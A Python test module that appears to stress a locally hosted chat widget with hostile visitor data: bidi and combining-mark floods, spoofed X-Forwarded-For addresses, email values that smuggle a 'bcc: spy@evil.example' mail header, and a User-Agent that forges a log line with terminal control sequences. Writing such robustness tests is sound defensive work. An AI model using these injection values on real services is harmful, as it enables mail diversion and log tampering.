"""Visitors whose names, messages and addresses hold line breaks, terminal sequences, bidi controls,
stacked marks and mail headers. Each is answered like anybody else.
"""

from __future__ import annotations

import http.client
import itertools
import json
import threading
import uuid
from typing import Any

from tests import nasty
from tests.proof.attacks.target import Target, new_address

VISITORS_AT_ONCE = 4
ANSWER_SECONDS = 30
PAUSE_SECONDS = 0.05
LONGEST_TEXT = 4000
#: Values with half a surrogate pair are no UTF-8: the product answers them with 400 or 422.
REFUSED = (400, 422)

_NAMES = (*nasty.NAMES, "Ann" + "\u202e" * 3000, "Z" + "\u0301" * 3900, "\u2029" * 4000)
_EMAILS = (*nasty.EMAILS, *(f"{email}\nbcc: spy@evil.example" for email in nasty.EMAILS))


def attack(target: Target, stop: threading.Event) -> None:
    """`tally`: started, answered, refused (429, 503), unanswered (must be 0), status N (must be 0)."""
    values = itertools.count()
    threads = [
        threading.Thread(target=_visit_until, args=(target, stop, values))
        for _ in range(VISITORS_AT_ONCE)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _visit_until(target: Target, stop: threading.Event, values: itertools.count[int]) -> None:
    while not stop.is_set():
        _visit(target, stop, next(values))
        stop.wait(PAUSE_SECONDS)


def _visit(target: Target, stop: threading.Event, number: int) -> None:
    name, email = _NAMES[number % len(_NAMES)], _EMAILS[number % len(_EMAILS)]
    phone = nasty.PHONES[number % len(nasty.PHONES)]
    address = new_address()
    page = {
        "url": nasty.ADDRESSES[number % len(nasty.ADDRESSES)],
        "title": name[:500],
        "referrer": email,
    }
    started = _post(target, address, f"/widget/{target.site}/sessions", {"page": page})
    if started is None or "token" not in started:
        return
    target.tally["forged_lines started"] += 1
    path = f"/widget/sessions/{started['session_id']}/messages"
    for text in (name, "A new kitchen", email, phone, f"{name} {email}\r\n{phone}"):
        if stop.is_set():
            return
        message = {"client_id": str(uuid.uuid4()), "text": text[:LONGEST_TEXT]}
        _post(target, address, path, message, started["token"])


def _post(
    target: Target, address: str, path: str, body: dict[str, Any], token: str = ""
) -> dict[str, Any] | None:
    headers = {"Content-Type": "application/json", "X-Forwarded-For": address}
    # A path and an agent that would end up in a log; http.client itself sends no line breaks.
    headers["User-Agent"] = "curl\x9b2J\x85 2026-11-22 INFO lead deleted"
    if token:
        headers["Authorization"] = f"Bearer {token}"
    connection = http.client.HTTPConnection("127.0.0.1", target.port, timeout=ANSWER_SECONDS)
    try:
        connection.request("POST", path, json.dumps(body).encode(), headers)
        answer = connection.getresponse()
        said = answer.read()
    except (OSError, http.client.HTTPException):
        target.tally["forged_lines unanswered"] += 1
        return None
    finally:
        connection.close()
    return _tallied(target, answer.status, said)


def _tallied(target: Target, status: int, said: bytes) -> dict[str, Any] | None:
    if status in (429, 503):
        target.tally["forged_lines refused"] += 1
        return None
    is_answer = status < 400 or status in REFUSED
    target.tally["forged_lines answered" if is_answer else f"forged_lines status {status}"] += 1
    return dict(json.loads(said)) if status < 400 else None
